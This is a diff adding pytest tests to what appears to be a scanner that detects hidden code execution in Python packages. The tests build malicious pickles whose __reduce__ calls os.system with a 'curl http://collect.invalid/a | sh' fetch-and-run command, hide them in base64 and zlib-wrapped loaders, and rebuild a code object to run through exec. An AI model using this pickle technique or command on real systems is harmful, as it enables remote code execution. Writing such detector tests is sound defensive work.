@@ -7,6 +7,8 @@ an import, whichever way it is opened.
 import base64
 import json
 import marshal
+import os
+import pickle
 import struct
 import zlib
 
@@ -99,6 +101,50 @@ def test_a_file_that_code_runs_is_read_whatever_it_is_called(case):
     assert {fact.activation for fact in shell} == {"import"}
     assert any("curl http://collect.invalid/a" in value.text for f in shell for value in f.values)
     assert any(isinstance(item, Layer) for item in items)
+
+
+class Runs:
+    """What a pickle calls when it is loaded."""
+
+    def __init__(self, function: object, text: str) -> None:
+        self.function, self.text = function, text
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return self.function, (self.text,)
+
+
+COMMAND = "curl http://collect.invalid/a | sh"
+PICKLES = {
+    "loads": f"pickle.loads(base64.b64decode({base64.b64encode(pickle.dumps(Runs(os.system, COMMAND)))!r}))",
+    "code": f"pickle.loads(zlib.decompress({zlib.compress(pickle.dumps(Runs(exec, CODE.decode())))!r}))",
+    "file": "with open(at('a.dat'), 'rb') as f:\n    exec(pickle.load(f))",
+}
+
+
+@pytest.mark.parametrize("case", PICKLES, ids=str)
+def test_a_pickle_that_code_loads_runs_when_the_code_does(case):
+    held = pickle.dumps(Runs(os.system, COMMAND))
+    items = read("import pickle\n" + PICKLES[case], "a.dat", held)
+    shell = [
+        one for one in items
+        if isinstance(one, Fact) and one.behaviour == "exec/shell" and one.activation == "import"
+    ]  # fmt: skip
+    assert shell
+    assert all(one.location.member == "tide/__init__.py" for one in shell)
+
+
+def test_a_code_object_put_together_from_its_parts_is_read():
+    made = compile(CODE, "tide", "exec")
+    names = """
+        argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames
+        filename name qualname firstlineno linetable exceptiontable
+    """.split()
+    parts = ", ".join(repr(getattr(made, f"co_{name}")) for name in names)
+    items = read(f"import types\nexec(types.CodeType({parts}))", "a.dat", b"")
+    assert any(
+        isinstance(one, Fact) and one.behaviour == "exec/shell" and one.location.layer
+        for one in items
+    )
 
 
 def test_a_file_that_is_only_read_is_no_code():
